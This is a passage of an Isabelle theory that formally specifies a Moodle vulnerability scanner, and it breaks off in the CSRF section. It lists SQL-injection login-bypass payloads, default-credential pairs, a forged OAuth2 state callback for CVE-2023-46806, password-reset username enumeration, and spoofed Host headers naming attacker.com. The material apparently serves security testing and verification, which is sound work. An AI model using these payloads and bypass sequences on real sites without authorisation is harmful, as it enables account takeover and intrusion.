theory Spec2Isabelle
  imports Complex_Main
begin

section \<open>Strings as Python uses them\<close>

text \<open>\<^verbatim>\<open>s.startswith(p)\<close>, \<^verbatim>\<open>sub in s\<close> and \<^verbatim>\<open>a < b\<close> on \<^verbatim>\<open>str\<close>.\<close>

fun startswith :: "string \<Rightarrow> string \<Rightarrow> bool" where
  "startswith s [] = True"
| "startswith [] (p # ps) = False"
| "startswith (c # cs) (p # ps) = (c = p \<and> startswith cs ps)"

fun contains :: "string \<Rightarrow> string \<Rightarrow> bool" where
  "contains [] sub = (sub = [])"
| "contains (c # cs) sub = (startswith (c # cs) sub \<or> contains cs sub)"

fun str_lt :: "string \<Rightarrow> string \<Rightarrow> bool" where
  "str_lt [] [] = False"
| "str_lt [] (y # ys) = True"
| "str_lt (x # xs) [] = False"
| "str_lt (x # xs) (y # ys) = ((of_char x :: nat) < of_char y \<or> (x = y \<and> str_lt xs ys))"

text \<open>\<^verbatim>\<open>str(n)\<close> for a length, as the f-strings print it.\<close>

fun str_of_nat :: "nat \<Rightarrow> string" where
  "str_of_nat n =
     (if n < 10 then [''0123456789'' ! n]
      else str_of_nat (n div 10) @ [''0123456789'' ! (n mod 10)])"

text \<open>\<^verbatim>\<open>repr(s)\<close> of a string that holds no quote.\<close>

definition str_repr :: "string \<Rightarrow> string" where
  "str_repr v = [CHR 0x27] @ v @ [CHR 0x27]"

text \<open>\<^verbatim>\<open>target_url.rstrip('/')\<close>.\<close>

definition rstrip_slash :: "string \<Rightarrow> string" where
  "rstrip_slash s = rev (dropWhile (\<lambda>c. c = CHR ''/'') (rev s))"

section \<open>The HTTP client, seen from the tester\<close>

text \<open>
  The exceptions a request can raise: the three classes \<^verbatim>\<open>_safe_request\<close> names and
  any other \<^verbatim>\<open>Exception\<close>; and the one the cookie jar raises when asked for a name
  that several cookies have. Each carries its message (\<^verbatim>\<open>str(e)\<close>).
\<close>

datatype exn = Timeout string | ConnectionError string | RequestException string
  | OtherException string | CookieConflictError string

fun exn_str :: "exn \<Rightarrow> string" where
  "exn_str (Timeout m) = m"
| "exn_str (ConnectionError m) = m"
| "exn_str (RequestException m) = m"
| "exn_str (OtherException m) = m"
| "exn_str (CookieConflictError m) = m"

record request =
  meth :: string
  req_url :: string
  params :: "(string \<times> string) list"
  data :: "(string \<times> string) list"
  headers :: "(string \<times> string) list"

section \<open>The session's cookie jar\<close>

text \<open>
  \<^verbatim>\<open>requests.cookies.RequestsCookieJar\<close> over \<^verbatim>\<open>http.cookiejar.CookieJar\<close>: cookies are
  kept by domain, then path, then name, in dicts that keep the order of insertion, and
  the jar is read in that order. A cookie's value is a string or \<^verbatim>\<open>None\<close>.
\<close>

fun dict_set :: "string \<Rightarrow> 'v \<Rightarrow> (string \<times> 'v) list \<Rightarrow> (string \<times> 'v) list" where
  "dict_set k v [] = [(k, v)]"
| "dict_set k v ((k', v') # kvs) =
     (if k = k' then (k, v) # kvs else (k', v') # dict_set k v kvs)"

definition dict_del :: "string \<Rightarrow> (string \<times> 'v) list \<Rightarrow> (string \<times> 'v) list" where
  "dict_del k kvs = filter (\<lambda>kv. fst kv \<noteq> k) kvs"

definition dict_or_empty :: "(string \<times> (string \<times> 'v) list) list \<Rightarrow> string \<Rightarrow> (string \<times> 'v) list" where
  "dict_or_empty d k = (case map_of d k of None \<Rightarrow> [] | Some x \<Rightarrow> x)"

type_synonym jar = "(string \<times> (string \<times> (string \<times> string option) list) list) list"

text \<open>\<^verbatim>\<open>value.replace('\\"', "")\<close>: every backslash followed by a double quote is dropped.\<close>

fun drop_escaped_quotes :: "string \<Rightarrow> string" where
  "drop_escaped_quotes (c # d # cs) =
     (if c = CHR 0x5C \<and> d = CHR 0x22 then drop_escaped_quotes cs
      else c # drop_escaped_quotes (d # cs))"
| "drop_escaped_quotes cs = cs"

text \<open>\<^verbatim>\<open>CookieJar.set_cookie\<close>: the cookie takes its place under domain, path and name.\<close>

definition jar_store :: "string \<Rightarrow> string \<Rightarrow> string \<Rightarrow> string option \<Rightarrow> jar \<Rightarrow> jar" where
  "jar_store dmn pth name v j =
     (let c2 = dict_or_empty j dmn; c3 = dict_or_empty c2 pth
      in dict_set dmn (dict_set pth (dict_set name v c3) c2) j)"

text \<open>
  \<^verbatim>\<open>RequestsCookieJar.set_cookie\<close>: a string value that starts and ends with a double
  quote loses its escaped quotes first.
\<close>

definition set_cookie :: "string \<Rightarrow> string \<Rightarrow> string \<Rightarrow> string option \<Rightarrow> jar \<Rightarrow> jar" where
  "set_cookie dmn pth name v j =
     jar_store dmn pth name
       (case v of
          None \<Rightarrow> None
        | Some x \<Rightarrow>
            if startswith x [CHR 0x22] \<and> x \<noteq> [] \<and> last x = CHR 0x22
            then Some (drop_escaped_quotes x) else Some x)
       j"

text \<open>
  \<^verbatim>\<open>CookieJar.clear(domain, path, name)\<close> as the jar calls it on itself for an expired
  cookie, where a missing cookie is no error: the name goes, the dicts stay.
\<close>

definition jar_clear :: "string \<Rightarrow> string \<Rightarrow> string \<Rightarrow> jar \<Rightarrow> jar" where
  "jar_clear dmn pth name j =
     (case map_of j dmn of
        None \<Rightarrow> j
      | Some c2 \<Rightarrow>
          (case map_of c2 pth of
             None \<Rightarrow> j
           | Some c3 \<Rightarrow> dict_set dmn (dict_set pth (dict_del name c3) c2) j))"

text \<open>What an exchange does to the jar: cookies the target sets, cookies that expire.\<close>

datatype jar_op = StoreCookie string string string "string option"
  | ClearCookie string string string

fun apply_jar_op :: "jar \<Rightarrow> jar_op \<Rightarrow> jar" where
  "apply_jar_op j (StoreCookie dmn pth name v) = set_cookie dmn pth name v j"
| "apply_jar_op j (ClearCookie dmn pth name) = jar_clear dmn pth name j"

text \<open>\<^verbatim>\<open>iter(jar)\<close>: the names and values, domain by domain and path by path.\<close>

definition jar_cookies :: "jar \<Rightarrow> (string \<times> string option) list" where
  "jar_cookies j = concat (map (\<lambda>c2. concat (map snd (snd c2))) j)"

text \<open>
  \<^verbatim>\<open>_find_no_duplicates(name)\<close>: the value of the one cookie of that name; a second
  cookie of the name raises \<^verbatim>\<open>CookieConflictError\<close> unless the value kept so far is
  \<^verbatim>\<open>None\<close>; no cookie, or a value that is \<^verbatim>\<open>None\<close> or empty, raises \<^verbatim>\<open>KeyError\<close>.
\<close>

datatype lookup = Found string | Missing | Conflict

fun find_loop :: "string \<Rightarrow> (string \<times> string option) list \<Rightarrow> string option \<Rightarrow> lookup" where
  "find_loop name [] toReturn =
     (case toReturn of
        None \<Rightarrow> Missing
      | Some v \<Rightarrow> if v = [] then Missing else Found v)"
| "find_loop name ((n, v) # cs) toReturn =
     (if n = name then
        (if toReturn \<noteq> None then Conflict else find_loop name cs v)
      else find_loop name cs toReturn)"

definition find_no_duplicates :: "jar \<Rightarrow> string \<Rightarrow> lookup" where
  "find_no_duplicates j name = find_loop name (jar_cookies j) None"

text \<open>\<^verbatim>\<open>name in jar\<close>: \<^verbatim>\<open>KeyError\<close> is false, a conflict is true.\<close>

definition jar_contains :: "jar \<Rightarrow> string \<Rightarrow> bool" where
  "jar_contains j name =
     (case find_no_duplicates j name of Found v \<Rightarrow> True | Missing \<Rightarrow> False | Conflict \<Rightarrow> True)"

text \<open>\<^verbatim>\<open>jar.get(name)\<close>: \<^verbatim>\<open>KeyError\<close> gives \<^verbatim>\<open>None\<close>, a conflict is raised.\<close>

definition jar_get :: "jar \<Rightarrow> string \<Rightarrow> exn + string option" where
  "jar_get j name =
     (case find_no_duplicates j name of
        Found v \<Rightarrow> Inr (Some v)
      | Missing \<Rightarrow> Inr None
      | Conflict \<Rightarrow>
          Inl (CookieConflictError (''There are multiple cookies with name, '' @ str_repr name)))"

section \<open>Responses and the environment\<close>

text \<open>
  What the tester reads of a \<^verbatim>\<open>requests.Response\<close>: \<^verbatim>\<open>status_code\<close>, \<^verbatim>\<open>text\<close>,
  \<^verbatim>\<open>url\<close> (the final URL), and what the exchange did to the session's jar, in order.
\<close>

record response =
  status_code :: int
  resp_text :: string
  resp_url :: string
  jar_ops :: "jar_op list"

text \<open>
  \<^verbatim>\<open>if not response\<close>: \<^verbatim>\<open>requests.Response.__bool__\<close> is \<^verbatim>\<open>self.ok\<close>, false for a
  status from 400 to 599.
\<close>

definition resp_ok :: "response \<Rightarrow> bool" where
  "resp_ok r = (\<not> (400 \<le> status_code r \<and> status_code r < 600))"

text \<open>What the tester does to the outside world, in order.\<close>

datatype event = Sleep real | Send request

text \<open>
  The environment: the target as a function of everything done so far and the request
  sent now, which answers or makes the transport raise (an exchange that raises may have
  changed the jar on the way, in a redirect); and the library calls taken as given:
  BeautifulSoup's search for the \<^verbatim>\<open>logintoken\<close> input (\<open>None\<close>: no such tag,
  \<open>Some v\<close>: its \<^verbatim>\<open>value\<close>, empty when the attribute is missing),
  \<^verbatim>\<open>hashlib.md5(..).hexdigest()\<close>, \<^verbatim>\<open>urllib.parse.quote(json.dumps({..}))\<close> of the
  forged state for a target URL, and \<^verbatim>\<open>'state' in parse_qs(urlparse(url).query)\<close>.
\<close>

record env =
  server :: "event list \<Rightarrow> request \<Rightarrow> (exn \<times> jar_op list) + response"
  find_logintoken :: "string \<Rightarrow> string option"
  md5_hexdigest :: "string \<Rightarrow> string"
  quote_json_state :: "string \<Rightarrow> string"
  query_has_state :: "string \<Rightarrow> bool"

section \<open>The tester object\<close>

record tester =
  target_url :: string
  username :: "string option"
  password :: "string option"
  delay :: real
  version_info :: "(string \<rightharpoonup> string) option"
  login_attempts :: "string \<rightharpoonup> nat"
  max_attempts_per_account :: nat
  cookies :: jar
  trace :: "event list"

text \<open>\<^verbatim>\<open>__init__\<close>: the fields the checks read (timeout, proxy, user agent and TLS
  verification only configure the transport). \<^verbatim>\<open>session.cookies.update(cookies)\<close> sets
  each cookie of the dict for the domain \<^verbatim>\<open>''\<close> and the path \<^verbatim>\<open>/\<close>.\<close>

definition init_tester ::
  "string \<Rightarrow> string option \<Rightarrow> string option \<Rightarrow> real \<Rightarrow> (string \<times> string) list \<Rightarrow> tester" where
  "init_tester url u p d cs =
     \<lparr>target_url = rstrip_slash url, username = u, password = p, delay = d,
      version_info = None, login_attempts = Map.empty, max_attempts_per_account = 3,
      cookies = foldl (\<lambda>j (n, v). set_cookie [] ''/'' n (Some v) j) [] cs, trace = []\<rparr>"

definition set_version_info :: "tester \<Rightarrow> (string \<rightharpoonup> string) \<Rightarrow> tester" where
  "set_version_info s vi = s\<lparr>version_info := Some vi\<rparr>"

text \<open>Truth value of an \<^verbatim>\<open>Optional[str]\<close>.\<close>

fun truthy :: "string option \<Rightarrow> bool" where
  "truthy None = False"
| "truthy (Some v) = (v \<noteq> [])"

record credential =
  cred_username :: string
  cred_password :: string
  cred_description :: string

definition test_credentials :: "credential list" where
  "test_credentials =
     [\<lparr>cred_username = ''admin'', cred_password = ''admin'',
       cred_description = ''default admin credentials''\<rparr>,
      \<lparr>cred_username = ''admin'', cred_password = ''password'',
       cred_description = ''simple admin password''\<rparr>,
      \<lparr>cred_username = ''admin'', cred_password = ''Password123'',
       cred_description = ''common admin password''\<rparr>,
      \<lparr>cred_username = ''admin'', cred_password = ''moodle'',
       cred_description = ''product name as password''\<rparr>,
      \<lparr>cred_username = ''guest'', cred_password = '''',
       cred_description = ''empty guest password''\<rparr>,
      \<lparr>cred_username = ''admin'', cred_password = ''changeme'',
       cred_description = ''temporary default password''\<rparr>]"

record payload =
  pl_username :: string
  pl_password :: string
  pl_type :: string

definition sql_injection_payloads :: "payload list" where
  "sql_injection_payloads =
     [\<lparr>pl_username = ''admin' --'', pl_password = ''anything'', pl_type = ''comment''\<rparr>,
      \<lparr>pl_username = ''admin' #'', pl_password = ''anything'', pl_type = ''comment''\<rparr>,
      \<lparr>pl_username = ''admin'/*'', pl_password = ''anything'', pl_type = ''comment''\<rparr>,
      \<lparr>pl_username = ''admin' OR '1'='1' --'', pl_password = ''anything'',
       pl_type = ''or_condition''\<rparr>,
      \<lparr>pl_username = ''' OR '1'='1' --'', pl_password = ''anything'',
       pl_type = ''or_condition''\<rparr>,
      \<lparr>pl_username = ''' OR 1=1 --'', pl_password = ''anything'', pl_type = ''or_condition''\<rparr>,
      \<lparr>pl_username = ''admin' OR 1=1 #'', pl_password = ''anything'',
       pl_type = ''or_condition''\<rparr>,
      \<lparr>pl_username = ''admin'/**/OR/**/1=1/**/--'', pl_password = ''anything'',
       pl_type = ''obfuscation''\<rparr>,
      \<lparr>pl_username = ''admin'%20OR%201=1%20--'', pl_password = ''anything'',
       pl_type = ''obfuscation''\<rparr>,
      \<lparr>pl_username = ''' UNION SELECT 'admin','password' --'', pl_password = ''anything'',
       pl_type = ''union''\<rparr>]"

section \<open>Requests and sleeps\<close>

definition GET :: "string \<Rightarrow> request" where
  "GET u = \<lparr>meth = ''get'', req_url = u, params = [], data = [], headers = []\<rparr>"

definition POST :: "string \<Rightarrow> (string \<times> string) list \<Rightarrow> request" where
  "POST u d = \<lparr>meth = ''post'', req_url = u, params = [], data = d, headers = []\<rparr>"

text \<open>\<^verbatim>\<open>if self.delay > 0: time.sleep(self.delay)\<close>.\<close>

definition delay_sleep :: "tester \<Rightarrow> tester" where
  "delay_sleep s = (if delay s > 0 then s\<lparr>trace := trace s @ [Sleep (delay s)]\<rparr> else s)"

text \<open>
  \<^verbatim>\<open>self.session.request(..)\<close> (and \<^verbatim>\<open>.get\<close>, \<^verbatim>\<open>.post\<close>): the request goes out, the
  target answers or the transport raises; an answer's cookies change the jar.
\<close>

definition session_request :: "env \<Rightarrow> tester \<Rightarrow> request \<Rightarrow> (exn + response) \<times> tester" where
  "session_request e s rq =
     (let s1 = s\<lparr>trace := trace s @ [Send rq]\<rparr> in
      case server e (trace s) rq of
        Inl (x, ops) \<Rightarrow> (Inl x, s1\<lparr>cookies := foldl apply_jar_op (cookies s1) ops\<rparr>)
      | Inr r \<Rightarrow> (Inr r, s1\<lparr>cookies := foldl apply_jar_op (cookies s1) (jar_ops r)\<rparr>))"

text \<open>\<^verbatim>\<open>_safe_request\<close>: the delay, then the request; every exception becomes \<open>None\<close>.\<close>

definition safe_request :: "env \<Rightarrow> tester \<Rightarrow> request \<Rightarrow> response option \<times> tester" where
  "safe_request e s rq =
     (case session_request e (delay_sleep s) rq of
        (Inl x, s') \<Rightarrow> (None, s')
      | (Inr r, s') \<Rightarrow> (Some r, s'))"

section \<open>test_authentication\<close>

definition attempts :: "tester \<Rightarrow> string \<Rightarrow> nat" where
  "attempts s h = (case login_attempts s h of None \<Rightarrow> 0 | Some n \<Rightarrow> n)"

definition logintoken_of :: "env \<Rightarrow> string \<Rightarrow> string" where
  "logintoken_of e txt = (case find_logintoken e txt of Some v \<Rightarrow> v | None \<Rightarrow> [])"

definition login_url :: "tester \<Rightarrow> string" where
  "login_url s = target_url s @ ''/login/index.php''"

definition admin_url :: "tester \<Rightarrow> string" where
  "admin_url s = target_url s @ ''/admin/index.php''"

definition login_data :: "string \<Rightarrow> string \<Rightarrow> string \<Rightarrow> (string \<times> string) list" where
  "login_data u p tok = [(''username'', u), (''password'', p), (''logintoken'', tok)]"

text \<open>The part of \<^verbatim>\<open>test_authentication\<close> after the login form is submitted.\<close>

definition classify_login :: "env \<Rightarrow> tester \<Rightarrow> response \<Rightarrow> bool \<times> tester" where
  "classify_login e s r =
     (if \<not> resp_ok r then (False, s)
      else if contains (resp_text r) ''loginerrors'' \<or> contains (resp_text r) ''Invalid login''
        then (False, s)
      else if contains (resp_url r) ''/my/'' \<or> contains (resp_text r) ''Dashboard''
              \<or> contains (resp_text r) ''My courses''
        then (True, s)
      else (case safe_request e s (GET (admin_url s)) of
              (None, s') \<Rightarrow> (False, s')
            | (Some a, s') \<Rightarrow>
                (resp_ok a \<and> status_code a = 200
                   \<and> contains (resp_text a) ''Site administration'', s')))"

definition test_authentication :: "env \<Rightarrow> tester \<Rightarrow> string \<Rightarrow> string \<Rightarrow> bool \<times> tester" where
  "test_authentication e s u p =
     (if u = [] then (False, s)
      else let h = md5_hexdigest e u in
        if attempts s h \<ge> max_attempts_per_account s then (False, s)
        else let s1 = s\<lparr>login_attempts := (login_attempts s)(h \<mapsto> attempts s h + 1)\<rparr> in
          (case safe_request e s1 (GET (login_url s1)) of
             (None, s2) \<Rightarrow> (False, s2)
           | (Some r, s2) \<Rightarrow>
               if \<not> resp_ok r \<or> status_code r \<noteq> 200 then (False, s2)
               else let tok = logintoken_of e (resp_text r) in
                 (case safe_request e (delay_sleep s2) (POST (login_url s2) (login_data u p tok)) of
                    (None, s3) \<Rightarrow> (False, s3)
                  | (Some r2, s3) \<Rightarrow> classify_login e s3 r2)))"

section \<open>Findings and the report\<close>

datatype severity = Critical | High | Medium | Info

text \<open>A finding is a dict; the keys a check leaves out are \<open>None\<close>.\<close>

record finding =
  title :: string
  description :: string
  severity :: severity
  evidence :: "string option"
  remediation :: "string option"
  cve :: "string option"
  cwe :: "string option"
  references :: "string list option"

record report =
  vulnerabilities :: "finding list"
  info :: "finding list"

definition info_note :: "string \<Rightarrow> string \<Rightarrow> finding" where
  "info_note t d =
     \<lparr>title = t, description = d, severity = Info, evidence = None, remediation = None,
      cve = None, cwe = None, references = None\<rparr>"

definition vuln :: "string \<Rightarrow> string \<Rightarrow> severity \<Rightarrow> string \<Rightarrow> string \<Rightarrow> finding" where
  "vuln t d sev ev rem =
     \<lparr>title = t, description = d, severity = sev, evidence = Some ev, remediation = Some rem,
      cve = None, cwe = None, references = None\<rparr>"

section \<open>test_common_credentials\<close>

fun common_credentials_loop ::
  "env \<Rightarrow> tester \<Rightarrow> credential list \<Rightarrow> credential option \<times> tester" where
  "common_credentials_loop e s [] = (None, s)"
| "common_credentials_loop e s (c # cs) =
     (case test_authentication e (delay_sleep s) (cred_username c) (cred_password c) of
        (True, s') \<Rightarrow> (Some c, s')
      | (False, s') \<Rightarrow> common_credentials_loop e s' cs)"

definition test_common_credentials :: "env \<Rightarrow> tester \<Rightarrow> credential option \<times> tester" where
  "test_common_credentials e s = common_credentials_loop e s test_credentials"

section \<open>test_oauth2_bypass\<close>

definition oauth_url :: "tester \<Rightarrow> string" where
  "oauth_url s = target_url s @ ''/auth/oauth2/login.php''"

text \<open>\<^verbatim>\<open>self.version_info and self.version_info.get("version")\<close>, when it is true.\<close>

definition known_version :: "tester \<Rightarrow> string option" where
  "known_version s =
     (case version_info s of
        None \<Rightarrow> None
      | Some vi \<Rightarrow> (case vi ''version'' of
                     None \<Rightarrow> None
                   | Some v \<Rightarrow> if v = [] then None else Some v))"

definition version_vulnerable :: "string \<Rightarrow> bool" where
  "version_vulnerable version =
     (if startswith version ''4.2'' \<and> str_lt version ''4.2.2'' then True
      else if startswith version ''4.1'' \<and> str_lt version ''4.1.5'' then True
      else if startswith version ''4.0'' \<and> str_lt version ''4.0.11'' then True
      else False)"

definition oauth_references :: "string list" where
  "oauth_references = [''https://moodle.org/mod/forum/discuss.php?d=447992'']"

definition oauth_version_finding :: "string \<Rightarrow> finding" where
  "oauth_version_finding version =
     \<lparr>title = ''OAuth2 Authentication Bypass Vulnerability'',
      description = ''The Moodle installation appears to be running a version vulnerable to CVE-2023-46806. ''
        @ ''This vulnerability allows attackers to bypass authentication via the OAuth2 module.'',
      severity = Critical,
      evidence = Some (''Moodle version '' @ version
        @ '' detected, which is in the vulnerable range. OAuth2 is enabled.''),
      remediation = Some ''Update to Moodle versions 4.2.2, 4.1.5, 4.0.11 or later.'',
      cve = Some ''CVE-2023-46806'', cwe = None, references = Some oauth_references\<rparr>"

definition oauth_exploit_finding :: finding where
  "oauth_exploit_finding =
     \<lparr>title = ''OAuth2 Authentication Bypass Vulnerability'',
      description = ''The Moodle installation is vulnerable to an OAuth2 authentication bypass vulnerability. ''
        @ ''This vulnerability allows attackers to bypass authentication and gain administrative access.'',
      severity = Critical,
      evidence = Some ''Successfully bypassed authentication using OAuth2 state parameter manipulation.'',
      remediation = Some ''Update to Moodle versions 4.2.2, 4.1.5, 4.0.11 or later.'',
      cve = Some ''CVE-2023-46806'', cwe = None, references = Some oauth_references\<rparr>"

definition callback_urls :: "tester \<Rightarrow> string list" where
  "callback_urls s =
     [target_url s @ ''/auth/oauth2/callback.php'', target_url s @ ''/admin/tool/oauth2/login.php'']"

definition callback_request :: "string \<Rightarrow> string \<Rightarrow> request" where
  "callback_request u st = (GET u)\<lparr>params := [(''state'', st), (''code'', ''BYPASS'')]\<rparr>"

text \<open>
  The loop over the callback URLs. It runs inside the \<^verbatim>\<open>try\<close> of the exploit, whose
  handler only logs: a request that raises ends the check with no finding.
\<close>

fun oauth_callback_loop ::
  "env \<Rightarrow> tester \<Rightarrow> string \<Rightarrow> string list \<Rightarrow> finding option \<times> tester" where
  "oauth_callback_loop e s st [] = (None, s)"
| "oauth_callback_loop e s st (u # us) =
     (case session_request e (delay_sleep s) (callback_request u st) of
        (Inl x, s1) \<Rightarrow> (None, s1)
      | (Inr r, s1) \<Rightarrow>
          (case session_request e s1 (GET (admin_url s1)) of
             (Inl x, s2) \<Rightarrow> (None, s2)
           | (Inr a, s2) \<Rightarrow>
               if status_code a = 200 \<and> contains (resp_text a) ''Site administration''
               then (Some oauth_exploit_finding, s2)
               else oauth_callback_loop e s2 st us))"

definition oauth_probe_request :: "tester \<Rightarrow> request" where
  "oauth_probe_request s =
     (GET (oauth_url s))\<lparr>params := [(''id'', ''1''), (''wantsurl'', target_url s @ ''/admin/''),
                                   (''sesskey'', ''random'')]\<rparr>"

definition oauth_exploit :: "env \<Rightarrow> tester \<Rightarrow> finding option \<times> tester" where
  "oauth_exploit e s =
     (case session_request e s (oauth_probe_request s) of
        (Inl x, s1) \<Rightarrow> (None, s1)
      | (Inr r, s1) \<Rightarrow>
          if contains (resp_url r) ''state='' then
            (if query_has_state e (resp_url r)
             then oauth_callback_loop e s1 (quote_json_state e (target_url s1)) (callback_urls s1)
             else (None, s1))
          else (None, s1))"

definition test_oauth2_bypass :: "env \<Rightarrow> tester \<Rightarrow> (exn + finding option) \<times> tester" where
  "test_oauth2_bypass e s =
     (case session_request e s (GET (oauth_url s)) of
        (Inl x, s1) \<Rightarrow> (Inl x, s1)
      | (Inr r, s1) \<Rightarrow>
          if status_code r \<noteq> 200 \<or> \<not> contains (resp_text r) ''OAuth 2'' then (Inr None, s1)
          else (case known_version s1 of
                  Some version \<Rightarrow>
                    if version_vulnerable version
                    then (Inr (Some (oauth_version_finding version)), s1)
                    else (case oauth_exploit e s1 of (f, s2) \<Rightarrow> (Inr f, s2))
                | None \<Rightarrow> (case oauth_exploit e s1 of (f, s2) \<Rightarrow> (Inr f, s2))))"

section \<open>test_sql_injection_auth_bypass\<close>

definition sql_finding :: "payload \<Rightarrow> finding" where
  "sql_finding pl =
     vuln ''SQL Injection Authentication Bypass''
       ''The Moodle login form is vulnerable to SQL injection, allowing attackers to bypass authentication.''
       Critical
       (''Successfully authenticated using SQL injection payload: '' @ pl_username pl)
       ''Update to the latest Moodle version and ensure proper input validation is in place.''"

fun sql_injection_loop :: "env \<Rightarrow> tester \<Rightarrow> payload list \<Rightarrow> finding option \<times> tester" where
  "sql_injection_loop e s [] = (None, s)"
| "sql_injection_loop e s (pl # pls) =
     (case test_authentication e (delay_sleep s) (pl_username pl) (pl_password pl) of
        (True, s') \<Rightarrow> (Some (sql_finding pl), s')
      | (False, s') \<Rightarrow> sql_injection_loop e s' pls)"

definition test_sql_injection_auth_bypass :: "env \<Rightarrow> tester \<Rightarrow> finding option \<times> tester" where
  "test_sql_injection_auth_bypass e s = sql_injection_loop e s sql_injection_payloads"

section \<open>test_password_reset_vulnerability\<close>

definition reset_url :: "tester \<Rightarrow> string" where
  "reset_url s = target_url s @ ''/login/forgot_password.php''"

definition reset_usernames :: "string list" where
  "reset_usernames = [''admin'', ''administrator'', ''root'', ''user'', ''student'', ''teacher'']"

definition reset_remediation :: string where
  "reset_remediation =
     ''Modify the password reset functionality to use generic messages that don't disclose user information.''"

definition reset_many_finding :: "string \<Rightarrow> finding" where
  "reset_many_finding u =
     vuln ''User Enumeration via Password Reset''
       ''The password reset functionality discloses information about existing usernames.''
       Medium
       (''The system indicated multiple users with the same email for username: '' @ u)
       reset_remediation"

definition reset_nouser_finding :: "string \<Rightarrow> finding" where
  "reset_nouser_finding u =
     vuln ''User Enumeration via Password Reset''
       ''The password reset functionality allows enumeration of valid usernames.''
       Medium
       (''The system directly indicated that username '' @ [CHR 0x27] @ u @ [CHR 0x27]
          @ '' doesn't exist.'')
       reset_remediation"

definition reset_host_finding :: finding where
  "reset_host_finding =
     vuln ''Password Reset Host Header Injection''
       (''The password reset functionality may be vulnerable to Host header injection, ''
         @ ''which could allow attackers to receive password reset links for other users.'')
       High
       ''The system accepted a modified Host header in the password reset request.''
       (''Modify the password reset functionality to use hardcoded URLs rather than ones ''
         @ ''derived from the HTTP Host header.'')"

text \<open>The loop over the candidate usernames: \<open>Inr None\<close> when it ends without a \<^verbatim>\<open>return\<close>.\<close>

fun reset_enum_loop ::
  "env \<Rightarrow> tester \<Rightarrow> string \<Rightarrow> string list \<Rightarrow> (exn + finding option) \<times> tester" where
  "reset_enum_loop e s tok [] = (Inr None, s)"
| "reset_enum_loop e s tok (u # us) =
     (case session_request e (delay_sleep s)
             (POST (reset_url s) [(''username'', u), (''logintoken'', tok)]) of
        (Inl x, s1) \<Rightarrow> (Inl x, s1)
      | (Inr r, s1) \<Rightarrow>
          if contains (resp_text r) ''If the username and email address match''
            then reset_enum_loop e s1 tok us
          else if contains (resp_text r) ''We found too many users with this email address''
            then (Inr (Some (reset_many_finding u)), s1)
          else if contains (resp_text r) ''No users have that username''
            then (Inr (Some (reset_nouser_finding u)), s1)
          else reset_enum_loop e s1 tok us)"

definition reset_host_request :: "tester \<Rightarrow> string \<Rightarrow> request" where
  "reset_host_request s tok =
     (POST (reset_url s) [(''username'', ''admin''), (''logintoken'', tok)])
       \<lparr>headers := [(''Host'', ''attacker.com''), (''X-Forwarded-Host'', ''attacker.com'')]\<rparr>"

definition test_password_reset_vulnerability ::
  "env \<Rightarrow> tester \<Rightarrow> (exn + finding option) \<times> tester" where
  "test_password_reset_vulnerability e s =
     (case session_request e s (GET (reset_url s)) of
        (Inl x, s1) \<Rightarrow> (Inl x, s1)
      | (Inr r, s1) \<Rightarrow>
          if status_code r \<noteq> 200 \<or> \<not> contains (resp_text r) ''Reset password''
          then (Inr None, s1)
          else let tok = logintoken_of e (resp_text r) in
            (case reset_enum_loop e s1 tok reset_usernames of
               (Inl x, s2) \<Rightarrow> (Inl x, s2)
             | (Inr (Some f), s2) \<Rightarrow> (Inr (Some f), s2)
             | (Inr None, s2) \<Rightarrow>
                 (case session_request e (delay_sleep s2) (reset_host_request s2 tok) of
                    (Inl x, s3) \<Rightarrow> (Inl x, s3)
                  | (Inr r2, s3) \<Rightarrow>
                      if contains (resp_text r2) ''attacker.com''
                      then (Inr (Some reset_host_finding), s3)
                      else (Inr None, s3))))"

section \<open>test_host_header_auth_bypass\<close>

definition test_headers :: "(string \<times> string) list list" where
  "test_headers =
     [[(''Host'', ''localhost'')], [(''Host'', ''127.0.0.1'')],
      [(''X-Forwarded-Host'', ''localhost'')], [(''X-Forwarded-Host'', ''127.0.0.1'')],
      [(''X-Original-URL'', ''/admin/index.php'')], [(''X-Rewrite-URL'', ''/admin/index.php'')]]"

text \<open>\<^verbatim>\<open>f"{headers}"\<close>: the \<^verbatim>\<open>repr\<close> of a dict of strings that hold no quote.\<close>

fun dict_items_repr :: "(string \<times> string) list \<Rightarrow> string" where
  "dict_items_repr [] = []"
| "dict_items_repr [(k, v)] = str_repr k @ '': '' @ str_repr v"
| "dict_items_repr ((k, v) # kvs) = str_repr k @ '': '' @ str_repr v @ '', '' @ dict_items_repr kvs"

definition dict_repr :: "(string \<times> string) list \<Rightarrow> string" where
  "dict_repr kvs = ''{'' @ dict_items_repr kvs @ ''}''"

definition host_header_finding :: "(string \<times> string) list \<Rightarrow> finding" where
  "host_header_finding hs =
     vuln ''Host Header Authentication Bypass''
       ''The Moodle installation is vulnerable to authentication bypass via Host header manipulation.''
       Critical
       (''Successfully accessed admin area using modified headers: '' @ dict_repr hs)
       ''Configure the web server to validate Host headers and update Moodle to the latest version.''"

fun host_header_loop ::
  "env \<Rightarrow> tester \<Rightarrow> (string \<times> string) list list \<Rightarrow> (exn + finding option) \<times> tester" where
  "host_header_loop e s [] = (Inr None, s)"
| "host_header_loop e s (hs # hss) =
     (case session_request e (delay_sleep s) ((GET (admin_url s))\<lparr>headers := hs\<rparr>) of
        (Inl x, s1) \<Rightarrow> (Inl x, s1)
      | (Inr r, s1) \<Rightarrow>
          if status_code r = 200 \<and> contains (resp_text r) ''Site administration''
          then (Inr (Some (host_header_finding hs)), s1)
          else host_header_loop e s1 hss)"

definition test_host_header_auth_bypass ::
  "env \<Rightarrow> tester \<Rightarrow> (exn + finding option) \<times> tester" where
  "test_host_header_auth_bypass e s = host_header_loop e s test_headers"

section \<open>test_csrf_token_weaknesses\<close>

definition csrf_missing_finding :: finding where
  "csrf_missing_finding =
     vuln ''Missing CSRF Protection''
       ''The Moodle login form doesn't include CSRF tokens, making it vulnerable to cross-site request forgery attacks.''
       High
       ''No logintoken field found in the login form.''
       ''Update to the latest Moodle version which includes proper CSRF protection.''"

definition csrf_weak_finding :: "nat \<Rightarrow> finding" where
  "csrf_weak_finding n =
     vuln ''Weak CSRF Token''
       ''The Moodle CSRF tokens appear to be too short, potentially making them easier to guess or brute force.''
       Medium
       (''Login token length is only '' @ str_of_nat n @ '' characters.'')
       ''Update to the latest Moodle version which includes stronger CSRF protection.''"

definition csrf_bypass_finding :: finding where
  "csrf_bypass_finding =
     vuln ''CSRF Protection Bypass''
       ''The Moodle installation appears to accept empty CSRF tokens, making it vulnerable to cross-site request forgery attacks.''
       High
